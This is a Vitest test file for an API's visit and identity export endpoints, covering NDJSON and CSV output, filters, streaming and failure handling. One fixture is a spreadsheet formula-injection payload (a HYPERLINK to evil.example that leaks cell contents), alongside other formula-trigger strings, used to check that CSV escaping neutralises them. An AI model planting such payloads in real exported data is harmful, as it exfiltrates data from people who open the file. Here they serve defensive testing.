/** Exports: every row once, in both formats, and never a part that looks like the whole. */
import { once } from "node:events";
import { get } from "node:http";
import { expect, test, vi } from "vitest";
import { csvLine } from "../../../src/proxy/exports/csv-line.js";
import { type Batch, exportRows } from "../../../src/proxy/exports/export-rows.js";
import { listen } from "./support/listen.js";
import { API_KEY, openGangway, type TestGangway } from "./support/open-gangway.js";

const headers = { "x-api-key": API_KEY };
const VISITS = "/v1/visits/export";
const IDENTITIES = "/api/v1/identities/export";

const objectsOf = (text: string) =>
  text
    .split("\n")
    .slice(0, -1)
    .map((line) => JSON.parse(line));

/** Reads CSV as RFC 4180 says. */
function rowsOf(csv: string): Record<string, string>[] {
  expect(csv.endsWith("\r\n")).toBe(true);
  const lines: string[][] = [[]];
  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    lines.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
    if (end === "\r\n") lines.push([]);
  }
  const [names = [], ...rows] = lines.slice(0, -1);
  for (const row of rows) expect(row).toHaveLength(names.length);
  return rows.map((row) => Object.fromEntries(names.map((name, index) => [name, row[index] ?? ""])));
}

async function inviteMany(gangway: TestGangway, count: number): Promise<string[]> {
  const refs: string[] = [];
  for (let index = 0; index < count; index += 1) {
    refs.unshift((await gangway.invite({ email: `jane${index}@example.com` })).trackingReference ?? "");
    gangway.clock.now += 1000;
  }
  return refs;
}

test("visits as NDJSON are those of the list, over several batches", async () => {
  const gangway = await openGangway();
  const refs = await inviteMany(gangway, 103);
  const answer = await gangway.call("GET", VISITS, { headers });
  expect(answer.headers.get("content-type")).toBe("application/x-ndjson");
  expect(answer.headers.get("content-disposition")).toBe('attachment; filename="visits.ndjson"');
  expect(answer.headers.get("cache-control")).toBe("no-store");
  const visits = objectsOf(answer.text);
  expect(visits.map(({ trackingReference }) => trackingReference)).toEqual(refs);
  const { json: page } = await gangway.call("GET", "/v1/visits?limit=100", { headers });
  expect(visits.slice(0, 100)).toEqual(page.data);
});

test("an export has the filters of its list, and its own organisation alone", async () => {
  const gangway = await openGangway();
  const [newest, , oldest] = await inviteMany(gangway, 3);
  const exported = async (query: string, key = API_KEY) =>
    objectsOf((await gangway.call("GET", `${VISITS}?${query}`, { headers: { "x-api-key": key } })).text).map(
      ({ trackingReference }) => trackingReference,
    );
  expect(await exported("created_from=2026-11-20T12:00:02Z")).toEqual([newest]);
  expect(await exported("created_before=2026-11-20T12:00:01Z&provider=verifime&status=Inactive")).toEqual([
    oldest,
  ]);
  expect(await exported("outcome=approved")).toEqual([]);
  expect(await exported("", "quay-api-key")).toEqual([]);
  for (const query of ["format=xml", "limit=5", "email=jane@example.com"]) {
    expect((await gangway.call("GET", `${VISITS}?${query}`, { headers })).status).toBe(400);
  }
  const empty = await gangway.call("GET", `${VISITS}?format=csv&outcome=approved`, { headers });
  expect(empty.text).toMatch(/^trackingReference,[^\n]+\r\n$/);
  expect((await gangway.call("HEAD", VISITS, { headers })).status).toBe(200);
});

test("visits as CSV have a column for each value, no links, and no formula", async () => {
  const gangway = await openGangway();
  await gangway.invite({
    email: "+jane@example.com",
    externalRef: '=HYPERLINK("http://evil.example?"&A1,"click")',
    referenceData: 'two\nlines, and a "quote"',
    customerContext: { firstName: "@SUM(1)", familyName: "Müller" },
  });
  const answer = await gangway.call("GET", `${VISITS}?format=csv`, { headers });
  expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
  expect(answer.headers.get("content-disposition")).toBe('attachment; filename="visits.csv"');
  const [visit] = rowsOf(answer.text);
  expect(visit).toMatchObject({
    status: "Inactive",
    outcome: "",
    email: "'+jane@example.com",
    externalRef: `'=HYPERLINK("http://evil.example?"&A1,"click")`,
    referenceData: 'two\nlines, and a "quote"',
    firstName: "'@SUM(1)",
    familyName: "Müller",
    createdAt: "2026-11-20T12:00:00.000Z",
  });
  expect(answer.text).not.toMatch(/https?:\/\/(?!evil)/);
});

test.each([
  ["=1+1", "'=1+1"],
  ["+61", "'+61"],
  ["-1", "'-1"],
  ["@a", "'@a"],
  ["\t=1", `"'\t=1"`],
  ["\r=1", `"'\r=1"`],
  ["＝1", "'＝1"],
  [" padded ", '" padded "'],
  ["a;b", '"a;b"'],
  ["a=b", "a=b"],
  ["", ""],
  [-7, "-7"],
  [null, ""],
  [false, "false"],
])("the field of %j is %j", (value, field) => {
  expect(csvLine([value, "x"])).toBe(`${field},x\r\n`);
});

test("identities in both formats, filtered as their list is", async () => {
  const gangway = await openGangway();
  const imported = Array.from({ length: 102 }, (_, index) => ({ external_ref: `user-${index}` }));
  await gangway.call("POST", "/api/v1/identities/import", { headers, body: imported });
  const at = (index: number, part = "") => `/api/v1/identities/user-${index}${part}`;
  const patch = { status: "approved", first_name: "=Jane", country: "US" };
  await gangway.call("PATCH", at(7), { headers, body: patch });
  await gangway.call("POST", at(7, "/tags"), { headers, body: { tags: ["vip", "a,b"] } });
  await gangway.call("POST", at(8, "/archive"), { headers });
  const exported = async (query: string) =>
    objectsOf((await gangway.call("GET", `${IDENTITIES}?${query}`, { headers })).text);
  const all = await exported("");
  expect(all).toHaveLength(101);
  const { json: page } = await gangway.call("GET", "/api/v1/identities?limit=100", { headers });
  expect(all.slice(0, 100)).toEqual(page.data);
  expect(await exported("include_archived=true")).toHaveLength(102);
  const found = await exported("q=ser-10&status=pending");
  expect(found.map(({ external_ref }) => external_ref)).toEqual(["user-101", "user-100", "user-10"]);
  const csv = await gangway.call("GET", `${IDENTITIES}?format=csv&status=approved`, { headers });
  expect(rowsOf(csv.text)).toEqual([
    expect.objectContaining({
      external_ref: "user-7",
      status: "approved",
      first_name: "'=Jane",
      country: "US",
      tags: '["vip","a,b"]',
      is_sandbox: "false",
      ssn: "",
    }),
  ]);
});

/** A list of one row in each batch, which counts its reads. */
function sourceOf(numbers: readonly number[], failAt = Number.POSITIVE_INFINITY) {
  let reads = 0;
  return {
    reads: () => reads,
    name: "numbers",
    example: { number: 1 },
    columns: (row: { number: number }) => row,
    async read(): Promise<Batch<{ number: number }>> {
      reads += 1;
      if (reads === failAt) throw new Error("the database is gone");
      const number = numbers[reads - 1] ?? 0;
      return { rows: [{ number }], next: reads < numbers.length ? `cursor-${reads}` : undefined };
    },
  };
}

function toolsOf() {
  const log = vi.fn();
  const work: Promise<void>[] = [];
  const track = async (promise: Promise<void>) => {
    work.push(promise);
    await promise;
  };
  return { log, track, work };
}

test("a batch is read when the one before was taken, and none after the caller has gone", async () => {
  const source = sourceOf([1, 2, 3]);
  const tools = toolsOf();
  const { body } = await exportRows("ndjson", source, tools);
  expect([source.reads(), tools.work.length]).toEqual([1, 0]);
  const reader = body.getReader();
  await reader.read();
  expect([source.reads(), tools.work.length]).toEqual([1, 1]);
  await reader.read();
  expect(source.reads()).toBe(2);
  await reader.cancel();
  await Promise.all(tools.work);
  expect(source.reads()).toBe(2);
});

test("a failure before the first byte is an answer of its own, and a later one breaks the stream", async () => {
  const tools = toolsOf();
  await expect(exportRows("csv", sourceOf([1, 2], 1), tools)).rejects.toThrow("gone");
  const { body } = await exportRows("csv", sourceOf([1, 2, 3], 3), tools);
  await expect(new Response(body).text()).rejects.toThrow("broke off");
  await Promise.all(tools.work);
  expect(tools.log).toHaveBeenCalledWith("error", "internal_error", { trace: expect.any(String) });
  expect(JSON.stringify(tools.log.mock.calls)).not.toContain("gone");
});

test("over HTTP, a broken export has no end, and the caller sees it", async () => {
  vi.spyOn(console, "error").mockImplementation(() => {});
  const fetch = async () =>
    new Response((await exportRows("ndjson", sourceOf([1, 2, 3], 3), toolsOf())).body);
  const [response] = await once(get(await listen({ fetch })), "response");
  const reading = (async () => {
    for await (const _ of response);
  })();
  await expect(reading).rejects.toThrow("aborted");
  expect(response.complete).toBe(false);
});

test("over HTTP, nothing more is read once the caller has gone", async () => {
  const tools = toolsOf();
  const rows = Array.from({ length: 100_000 }, (_, index) => index);
  const source = sourceOf(rows);
  const fetch = async () => new Response((await exportRows("ndjson", source, tools)).body);
  const request = get(await listen({ fetch }));
  const [response] = await once(request, "response");
  await once(response, "data");
  request.destroy();
  await expect.poll(() => tools.work.length).toBe(1);
  await Promise.all(tools.work);
  expect(source.reads()).toBeLessThan(rows.length);
});
